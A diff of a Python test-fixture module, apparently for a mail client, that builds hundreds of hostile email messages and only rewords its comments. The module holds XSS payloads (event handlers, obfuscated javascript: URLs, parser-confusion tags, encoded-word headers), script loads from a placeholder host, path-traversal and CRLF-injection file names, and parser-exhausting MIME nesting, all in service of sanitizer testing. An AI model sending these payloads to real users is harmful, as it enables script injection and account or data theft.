@@ -1,7 +1,7 @@
-"""Letters that somebody wrote to harm whoever reads them in a browser: over three hundred, by what they try.
+"""Over three hundred messages that attack a user who reads them in a browser, by their attempt.
 
-Each tries to set `pwned` in the page, or the page's title, or to fetch from `HERE`. They follow the lists that are published of such attempts (OWASP's filter evasion,
-PortSwigger's cheat sheet, html5sec.org, the letters of MIME torture tests), and are all written here.
+Each tries to set `pwned` in the page, or the page's title, or to fetch from `HERE`. They follow published lists of such attempts (OWASP's filter evasion,
+PortSwigger's cheat sheet, html5sec.org, MIME torture tests), and are all written here.
 """
 
 import base64
@@ -13,7 +13,7 @@ from mail import DOMAIN
 MARK = "top.pwned=1;document.title=`pwned`"
 HEAD = f"From: Charles <charles@elsewhere.test>\r\nTo: ada@{DOMAIN}\r\nMIME-Version: 1.0\r\n"
 
-# What runs by itself, or when somebody looks, moves, types or leaves.
+# Events that occur without the user, or when the user looks, moves, types or leaves.
 EVENTS = {
     "body": "load pageshow resize scroll focus blur hashchange message popstate beforeunload unload beforeprint afterprint online offline storage",
     "img src=data:,": "error load abort loadstart loadend",
@@ -35,7 +35,7 @@ EVENTS = {
     "dialog open": "close cancel",
 }
 
-# Addresses that are programs, however they are written.
+# Addresses that are scripts, in any spelling.
 PROGRAMS = (
     f"javascript:{MARK}", f"JaVaScRiPt:{MARK}", f" javascript:{MARK}", f"java\tscript:{MARK}", f"java\nscript:{MARK}", f"\x01javascript:{MARK}",
     f"&#106;avascript:{MARK}", f"&#x6A;avascript&colon;{MARK}", f"&#0000106avascript:{MARK}", f"javascript&#58;{MARK}", f"javascript:/*--></title>*/{MARK}",
@@ -49,7 +49,7 @@ HOLDERS = (
     '<svg><a xlink:href="{}"><text y=20>go</text></a></svg>', '<math href="{}"><mi id=go>go</mi></math>', '<img src="{}">', '<link rel=import href="{}">', '<video poster="{}"></video>', '<input type=image src="{}">',
 )
 
-# What a reader of HTML may take for the end of something, or for its beginning.
+# Text that an HTML parser may take for the end or the beginning of an element.
 CONFUSIONS = (
     f"<ScRiPt>{MARK}</sCrIpT>", f"<script/x>{MARK}</script>", f"<script\x0c>{MARK}</script>", f"<script>{MARK}", f"<<script>{MARK}//<</script>", f"<scr\0ipt>{MARK}</scr\0ipt>",
     f"<scr<script>ipt>{MARK}</scr</script>ipt>", f"<script src=data:,{MARK}></script>", "<script src=//HERE/a.js></script>", "<script type=module>import('//HERE/a.js')</script>",
@@ -73,7 +73,7 @@ CONFUSIONS = (
     f"<portal src=//HERE/a></portal>", f"<fencedframe src=//HERE/a></fencedframe>", f"<script type=speculationrules>{{\"prerender\":[{{\"source\":\"list\",\"urls\":[\"//HERE/a\"]}}]}}</script>",
 )
 
-# What style sheets fetch, run or cover.
+# Style sheets that fetch, run or cover something.
 STYLES = (
     "@import '//HERE/a.css';", "@import url(//HERE/a.css) screen;", "p{background:url(//HERE/a.png)}", "p{background-image:image-set('//HERE/a.png' 1x)}", "p{list-style:url(//HERE/a.png);display:list-item}",
     "p{cursor:url(//HERE/a.png),auto}", "p::before{content:url(//HERE/a.png)}", "p{border-image:url(//HERE/a.png) 9}", "p{mask:url(//HERE/a.svg#a)}", "p{filter:url(//HERE/a.svg#a)}", "p{clip-path:url(//HERE/a.svg#a)}",
@@ -83,7 +83,7 @@ STYLES = (
     f"</style><script>{MARK}</script>", f"<!--</style><img src=x onerror={MARK}>-->", "p{background:attr(data-a url)}", "@charset 'utf-7';+ADw-/style+AD4-",
 )
 
-# What may stand where a name, a subject or a date is expected.
+# Text in place of a name, a subject or a date.
 WORDS = (
     f"<script>{MARK}</script>", f"\"><img src=x onerror={MARK}>", f"' onmouseover={MARK} x='", f"=?utf-8?q?=3Cscript=3E{MARK.replace('=', '=3D')}=3C/script=3E?=",
     "=?utf-8?b?" + base64.b64encode(f"<img src=x onerror={MARK}>".encode()).decode() + "?=", f"=?utf-7?q?+ADw-script+AD4-{MARK.replace('=', '=3D')}?=", f"{{{{constructor.constructor('{MARK}')()}}}}", f"</title><script>{MARK}</script>",
@@ -91,7 +91,7 @@ WORDS = (
 )
 FIELDS = ("Subject: {}", "From: {} <a@elsewhere.test>", "From: \"{}\"@elsewhere.test", "To: {} <a@elsewhere.test>", "Cc: {}", "Reply-To: {} <a@elsewhere.test>", "Date: {}", "Message-ID: <{}>", "References: {}", "List-Unsubscribe: <{}>")
 
-# Names that files come with.
+# Names of attached files.
 FILES = (
     "../../etc/passwd", "..\\\\..\\\\windows\\\\system.ini", f"<img src=x onerror={MARK}>.html", "a.html\\\"; evil=\\\"", "a\\r\\nSet-Cookie: pwned=1", "\u202egnp.exe", "con", ".htaccess", "a" * 300, "a.svg", "a.xhtml", "a.pdf.exe", "", ".", "/", "a\tb", "файл.html",
 )
@@ -102,7 +102,7 @@ def html(text, kind="text/html; charset=utf-8"):
 
 
 def of_html():
-    """Letters whose HTML tries something."""
+    """Messages with attempts in their HTML."""
     for tag, events in EVENTS.items():
         for event in events.split():
             yield f"{tag} on{event}", html(f'<{tag.replace("_", " ")} on{event}="{MARK}">Text</{tag.split()[0]}>'.replace("style=animation:a 1s;transition:all 1s", 'style="animation:a 1s;transition:all 1s"'))
@@ -118,14 +118,14 @@ def of_html():
 
 
 def of_headers():
-    """Letters whose header tries something, and is not well made."""
+    """Messages with attempts in a malformed header."""
     for number, word in enumerate(WORDS):
         for field in FIELDS[number % 2::2]:
             yield f"{field.partition(':')[0]} {number}", f"{field.format(word)}\r\n{HEAD}\r\nText\r\n".encode()
 
 
 def of_files():
-    """Letters with files whose names or kinds try something."""
+    """Messages with attempts in the names or media types of files."""
     bad = f"<html><script>{MARK}</script></html>"
     for name in FILES:
         yield f"file {name[:40]}", (
@@ -138,14 +138,14 @@ def of_files():
 
 
 def of_structure():
-    """Letters whose structure is not one, or has no end."""
+    """Messages with a broken or endless structure."""
     script = f"<p>Harmless</p><script>{MARK}</script>"
     encoded = base64.b64encode(script.encode()).decode()
     nested = "".join(f"Content-Type: multipart/mixed; boundary=b{depth}\r\n\r\n--b{depth}\r\n" for depth in range(300))
-    of_letters = "Content-Type: message/rfc822\r\n\r\n" * 300
+    of_messages = "Content-Type: message/rfc822\r\n\r\n" * 300
     bodies = {
         "nested without end": nested + "\r\nText",
-        "letters within letters": of_letters + "\r\nText",
+        "letters within letters": of_messages + "\r\nText",
         "ten thousand parts": "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "--b\r\n\r\na\r\n" * 10_000,
         "ten thousand alternatives": "Content-Type: multipart/alternative; boundary=b\r\n\r\n" + "--b\r\nContent-Type: text/html\r\n\r\n<b>a</b>\r\n" * 10_000,
         "no boundary": "Content-Type: multipart/mixed\r\n\r\n--b\r\n\r\nText\r\n--b--",
@@ -193,12 +193,12 @@ def of_structure():
 
 
 def in_lines(message):
-    """With line ends as mail has them: who sends others is refused (RFC 5321 section 2.3.8)."""
+    """The message with CRLF line ends: others are refused (RFC 5321 section 2.3.8)."""
     return re.sub(rb"\r?\n|\r", b"\r\n", message)
 
 
-def letters(here):
-    """All: (name, message) with `here` where they want to fetch something from, such as `127.0.0.1:8000`."""
+def messages(here):
+    """All messages: (name, message). `here`: the authority that they try to fetch from, such as `127.0.0.1:8000`."""
     for of in (of_html, of_headers, of_files, of_structure):
         for name, message in of():
             yield f"{of.__name__[3:]}: {name}", in_lines(message.replace(b"HERE", here.encode()))
